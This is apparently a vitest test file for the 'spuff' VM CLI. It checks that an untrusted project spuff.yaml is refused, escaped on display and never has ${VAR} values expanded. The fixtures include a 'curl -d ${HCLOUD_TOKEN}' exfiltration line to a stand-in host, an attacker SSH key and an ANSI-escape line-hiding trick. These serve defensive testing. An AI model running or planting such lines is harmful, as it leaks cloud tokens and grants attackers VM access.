import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { main } from "../../src/cli/main.js";
import { decodeUserData } from "../fakes/hetzner/fake.js";
import { type Harness, harness, problems } from "../providers/hetzner/harness.js";
import { runCli, tempHome } from "../helpers/cli.js";
import { servicesFor } from "../tui/helpers.js";

// A project's spuff.yaml is untrusted input (docs/adr/0006-project-config-trust.md): the attacks below are what a
// cloned repository's file could do before; each test runs the real CLI against the Hetzner fake or real files.

const SECRET_SETUP = 'setup: ["curl -d ${HCLOUD_TOKEN} https://x.invalid"]\n';
const ATTACK = [
  SECRET_SETUP.trimEnd(),
  "ssh:",
  '  public_keys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker"]',
  "  sign_policy: any",
  "",
].join("\n");

/** Every JSON body the fake received, recorded by a fault that never fires. */
function recordBodies(h: Harness): unknown[] {
  const bodies: unknown[] = [];
  h.fake.inject({
    times: Number.POSITIVE_INFINITY,
    body: (b) => {
      if (b !== undefined) bodies.push(b);
      return false;
    },
  });
  return bodies;
}

describe("an untrusted project spuff.yaml", () => {
  let h: Harness;
  let proj: string;
  let file: string;
  let state: string;
  const run = (args: string[], extraEnv: NodeJS.ProcessEnv = {}) =>
    runCli(["--provider", "hetzner", ...args], { env: { ...h.env, ...extraEnv }, cwd: join(proj, "src") });
  beforeEach(async () => {
    h = await harness({ ipv4Prefix: "127.0.87." });
    proj = join(h.home.home, "clone");
    mkdirSync(join(proj, "src"), { recursive: true });
    file = join(proj, "spuff.yaml");
    state = join(h.env.XDG_STATE_HOME as string, "spuff");
  });
  afterEach(async () => {
    expect(problems(h.fake)).toEqual([]);
    await h.close();
  });

  it("with an env var in setup, an extra login key and sign_policy any: up and config show stop, nothing is created or expanded", async () => {
    writeFileSync(file, ATTACK);
    const up = await run(["up", "box"]);
    expect(up.code).toBe(1);
    expect(up.stderr).toContain(`error: ${file} has 2 problems`);
    expect(up.stderr).toContain(`${file}:3:3: ssh.public_keys: not allowed in a project file (it decides who may log in to the VM, where your forwarded agent arrives); move it to your user config ${h.env.XDG_CONFIG_HOME}/spuff/config.yaml`);
    expect(up.stderr).toContain(`${file}:4:3: ssh.sign_policy: not allowed in a project file`);
    expect(up.stderr).toContain("hint: a project file may set only: provider, ");
    expect(up.stderr).not.toMatch(/\n\s+at /);
    expect(h.fake.requests).toEqual([]);
    expect(existsSync(join(state, "vms"))).toBe(false);

    for (const args of [["config", "show"], ["--json", "config", "show"], ["config", "validate"]]) {
      const r = await run(args);
      expect(r.code, args.join(" ")).toBe(1);
      expect(r.stdout + r.stderr).not.toContain(h.fake.token);
    }
    // Trusting it does not help: refused keys are refused in a trusted file too, so it is not recorded.
    const trust = await run(["trust", file]);
    expect(trust.code).toBe(1);
    expect(trust.stderr).toContain(`${file}:3:3: ssh.public_keys: not allowed in a project file`);
    expect(JSON.parse((await run(["--json", "trust", "--list"])).stdout)).toEqual([]);
  });

  it("without a terminal, up exits 1 naming the file and the command that trusts it; ls ignores it with a warning", async () => {
    writeFileSync(file, SECRET_SETUP);
    const up = await run(["up", "box"]);
    expect(up).toEqual({
      code: 1,
      stdout: "",
      stderr: [
        `error: ${file} is a project config you have not trusted; spuff stopped before using it`,
        "  a project's spuff.yaml comes with the repository: its setup commands run on the VM your agent is later forwarded to",
        `hint: review the file, then trust this exact content: spuff trust ${file}`,
        "hint: or run the command in a terminal: spuff shows the file and asks",
        "",
      ].join("\n"),
    });
    expect(h.fake.requests).toEqual([]);
    expect(existsSync(state)).toBe(false);
    const show = await run(["config", "show"]);
    expect(show.code).toBe(1);
    expect(show.stdout).toBe("");
    expect(show.stderr).not.toContain(h.fake.token);

    const ls = await run(["ls", "--json"]);
    expect(ls.code).toBe(0);
    expect(JSON.parse(ls.stdout)).toEqual([]);
    expect(ls.stderr).toBe(
      `warning: ignoring ${file}: it is not trusted (this command needs only your user config); to use it: spuff trust ${file}\n`,
    );
  });

  it("after spuff trust, ${VAR} is still not expanded: neither config show nor any request body nor the user-data holds its value", async () => {
    writeFileSync(file, `local:\n  cpus: 4\n${SECRET_SETUP}`);
    const trust = await run(["trust"]);
    expect(trust.code).toBe(0);
    expect(trust.stdout).toMatch(new RegExp(`^trusted ${file} \\(sha256 [0-9a-f]{16}…\\); any change to it makes it untrusted again\\n$`));

    const show = await run(["config", "show"]);
    expect(show.code).toBe(0);
    expect(show.stdout).toContain("  - curl -d ${HCLOUD_TOKEN} https://x.invalid");
    expect(show.stdout).toContain(`# project file ${file} (trusted)`);
    expect(show.stdout).toContain("setup: # project:3:1 (trusted)");
    expect(show.stdout).toContain("token: <redacted> # env HCLOUD_TOKEN");
    expect(show.stdout).not.toContain(h.fake.token);

    const bodies = recordBodies(h);
    const up = await run(["up", "box"]);
    expect(up.stderr).not.toContain("error");
    expect(up.code).toBe(0);
    const create = bodies.find((b) => typeof (b as { user_data?: unknown }).user_data === "string") as { user_data: string };
    expect(create).toBeDefined();
    const userData = decodeUserData(create.user_data);
    expect(userData).toContain("curl -d ${HCLOUD_TOKEN} https://x.invalid");
    expect(userData).not.toContain(h.fake.token);
    for (const b of bodies) expect(JSON.stringify(b)).not.toContain(h.fake.token);
    const [server] = h.fake.servers.values();
    expect(server.userData).not.toContain(h.fake.token);
    expect(up.stdout + up.stderr).not.toContain(h.fake.token);
    expect((await run(["down", "box", "--yes"])).code).toBe(0);
  });

  it("one changed byte makes it untrusted again; --revoke and --list", async () => {
    writeFileSync(file, "local:\n  cpus: 4\n");
    expect((await run(["trust", file])).code).toBe(0);
    expect((await run(["config", "validate"])).stdout).toBe(
      `user config ${h.env.XDG_CONFIG_HOME}/spuff/config.yaml: valid; sets ssh.user, ssh.tmux\nproject file ${file} (trusted): valid; sets local.cpus\n`,
    );
    const trustedAt = JSON.parse((await run(["--json", "trust", "--list"])).stdout)[0].trustedAt;

    writeFileSync(file, "local:\n  cpus: 5\n");
    const up = await run(["up", "box"]);
    expect(up.code).toBe(1);
    expect(up.stderr).toContain(`error: ${file} changed since you trusted it (${trustedAt}); spuff stopped before using it`);
    expect(up.stderr).toContain(`hint: review the file, then trust this exact content: spuff trust ${file}`);
    expect(h.fake.requests).toEqual([]);
    const list = JSON.parse((await run(["--json", "trust", "--list"])).stdout);
    expect(list).toEqual([{ path: file, sha256: expect.stringMatching(/^[0-9a-f]{64}$/), trustedAt, status: "changed" }]);
    expect((await run(["trust", "--list"])).stdout).toMatch(new RegExp(`^PATH +STATUS +TRUSTED AT +SHA256\\n${file} +changed +${trustedAt} +[0-9a-f]{16}…\\n$`));

    // Reverting the byte restores the trusted content.
    writeFileSync(file, "local:\n  cpus: 4\n");
    expect((await run(["config", "show"])).code).toBe(0);

    const revoke = await run(["trust", "--revoke", file]);
    expect(revoke).toEqual({ code: 0, stdout: `revoked ${file}: spuff no longer uses it until you trust it again\n`, stderr: "" });
    expect((await run(["config", "show"])).code).toBe(1);
    const again = await run(["trust", "--revoke", file]);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain(`error: ${file} is not trusted; nothing to revoke`);
    expect(JSON.parse(readFileSync(join(state, "trusted-projects.json"), "utf8"))).toEqual({ version: 1, files: [] });
  });
});

describe("spuff trust", () => {
  let t: ReturnType<typeof tempHome>;
  beforeEach(() => {
    t = tempHome();
  });
  afterEach(() => t.cleanup());

  it("is bound to the real path: a symlinked directory is the same file; another name is refused; no file is an error", async () => {
    mkdirSync(join(t.home, "real"));
    writeFileSync(join(t.home, "real", "spuff.yaml"), "idle:\n  ttl: 4h\n");
    symlinkSync(join(t.home, "real"), join(t.home, "link"));
    expect((await runCli(["trust", join(t.home, "link")], { env: t.env })).stdout).toContain(`trusted ${join(t.home, "real", "spuff.yaml")} `);
    const show = await runCli(["--json", "config", "show"], { env: t.env, cwd: join(t.home, "real") });
    expect(show.code).toBe(0);
    expect(JSON.parse(show.stdout).config.idle.ttl).toBe("4h");
    expect(JSON.parse(show.stdout).origins["idle.ttl"]).toEqual({ source: "project", file: join(t.home, "real", "spuff.yaml"), line: 2, col: 3, trusted: true });
    expect((await runCli(["trust", join(t.home, "real")], { env: t.env })).stdout).toMatch(/is already trusted \(since /);
    const path = await runCli(["--json", "config", "path"], { env: t.env, cwd: join(t.home, "link") });
    expect(JSON.parse(path.stdout)[1]).toEqual({ kind: "project", path: join(t.home, "real", "spuff.yaml"), exists: true, trusted: true });

    writeFileSync(join(t.home, "other.yaml"), "idle:\n  ttl: 4h\n");
    const other = await runCli(["trust", join(t.home, "other.yaml")], { env: t.env });
    expect(other.code).toBe(1);
    expect(other.stderr).toContain("spuff reads a project's config only from a file named spuff.yaml");
    const none = await runCli(["trust"], { env: t.env, cwd: join(t.home, "real", "..", "..") });
    expect(none.code).toBe(1);
    expect(none.stderr).toMatch(/error: no spuff\.yaml in .* or any parent directory/);
  });

  it("the TUI's services (the wizard's create) stop on an untrusted project file too", async () => {
    mkdirSync(join(t.home, "w"));
    writeFileSync(join(t.home, "w", "spuff.yaml"), SECRET_SETUP);
    const services = await servicesFor(t.env, join(t.home, "w"));
    await expect(services.providers()).rejects.toThrow(`${join(t.home, "w", "spuff.yaml")} is a project config you have not trusted`);
    expect(() => services.ttl()).toThrow(/not trusted/);
  });

  it("config validate ./spuff.yaml checks it by a project file's rules without trusting or expanding it", async () => {
    mkdirSync(join(t.home, "v"));
    writeFileSync(join(t.home, "v", "spuff.yaml"), ATTACK);
    const bad = await runCli(["config", "validate", "spuff.yaml"], { env: { ...t.env, HCLOUD_TOKEN: "tok-secret-123" }, cwd: join(t.home, "v") });
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain(`${join(t.home, "v", "spuff.yaml")}:3:3: ssh.public_keys: not allowed in a project file`);
    expect(bad.stdout + bad.stderr).not.toContain("tok-secret-123");
    writeFileSync(join(t.home, "v", "spuff.yaml"), SECRET_SETUP);
    const good = await runCli(["config", "validate", "spuff.yaml"], { env: t.env, cwd: join(t.home, "v") });
    expect(good).toEqual({ code: 0, stdout: "spuff.yaml: valid (as a project file)\n", stderr: "" });
    expect(existsSync(join(t.env.XDG_STATE_HOME as string, "spuff", "trusted-projects.json"))).toBe(false);
  });

  it("config init --project writes a file that is trusted until its first edit", async () => {
    mkdirSync(join(t.home, "p"));
    const init = await runCli(["config", "init", "--project"], { env: t.env, cwd: join(t.home, "p") });
    expect(init.code).toBe(0);
    expect((await runCli(["config", "validate"], { env: t.env, cwd: join(t.home, "p") })).code).toBe(0);
    writeFileSync(join(t.home, "p", "spuff.yaml"), "packages: [ripgrep]\n", { flag: "a" });
    expect((await runCli(["config", "validate"], { env: t.env, cwd: join(t.home, "p") })).code).toBe(1);
  });
});

/** main() as if at a terminal: stdin and stdout are TTYs, no CI; `answer` is typed at the prompt. */
async function atTerminal(argv: string[], env: NodeJS.ProcessEnv, cwd: string, answer: string) {
  let stdout = "";
  let stderr = "";
  const stdin = Object.assign(new PassThrough(), { isTTY: true });
  stdin.end(answer);
  const { CI: _ci, ...noCi } = env;
  const code = await main(argv, {
    stdout: { write: (s: string) => (stdout += s), isTTY: true, columns: 120 },
    stderr: { write: (s: string) => (stderr += s), isTTY: false },
    stdin,
    env: noCi,
    cwd,
  });
  return { code, stdout, stderr };
}

describe("in a terminal", () => {
  let t: ReturnType<typeof tempHome>;
  let file: string;
  beforeEach(() => {
    t = tempHome();
    mkdirSync(join(t.home, "p"));
    file = join(t.home, "p", "spuff.yaml");
    // A line that tries to hide itself with a carriage return and an ANSI "erase line" sequence.
    writeFileSync(file, `local:\n  cpus: 4\n${SECRET_SETUP}packages: [ripgrep] # \r\u001b[2Kharmless\n`);
  });
  afterEach(() => t.cleanup());

  it("shows the file (control characters escaped) and what it would change, and trusts it on yes", async () => {
    const r = await atTerminal(["config", "show"], { ...t.env, HCLOUD_TOKEN: "tok-secret-123" }, join(t.home, "p"), "y\n");
    expect(r.code).toBe(0);
    expect(r.stderr).toContain(`${file} is a project config you have not trusted yet.`);
    expect(r.stderr).toMatch(/It would set:\n {2}KEY +VALUE *\n {2}local\.cpus +4 +\(now 2\)\n {2}setup +\["curl -d \$\{HCLOUD_TOKEN\} https:\/\/x\.invalid"\] +\(now \[\]\)\n {2}packages +\["ripgrep"\] +\(now \[\]\)/);
    expect(r.stderr).toContain("${VAR} is never expanded in a project file: the VM gets such text as written.");
    expect(r.stderr).toContain("  4 | packages: [ripgrep] # \\u{000d}\\u{001b}[2Kharmless");
    expect(r.stderr).not.toContain("\u001b[2K");
    expect(r.stderr).toContain(`Trust ${file} and continue? [y/N] `);
    expect(r.stderr).toContain(`trusted ${file}`);
    expect(r.stdout).toContain("cpus: 4 # project:2:3 (trusted)");
    expect(r.stdout + r.stderr).not.toContain("tok-secret-123");
    // Trusted now: no question the second time, also without a terminal.
    expect((await runCli(["config", "show"], { env: t.env, cwd: join(t.home, "p") })).code).toBe(0);
  });

  it("on no (or no answer) stops with exit 1 and records nothing", async () => {
    for (const answer of ["n\n", ""]) {
      const r = await atTerminal(["up", "x"], t.env, join(t.home, "p"), answer);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`error: ${file} is not trusted; nothing was done`);
      expect(r.stderr).toContain(`hint: trust it later with: spuff trust ${file}`);
    }
    expect(existsSync(join(t.env.XDG_STATE_HOME as string, "spuff", "trusted-projects.json"))).toBe(false);
    expect(existsSync(join(t.env.XDG_STATE_HOME as string, "spuff", "vms"))).toBe(false);
  });

  it("--yes does not trust a project file", async () => {
    const r = await atTerminal(["--yes", "config", "show"], t.env, join(t.home, "p"), "");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("Trust ");
  });
});
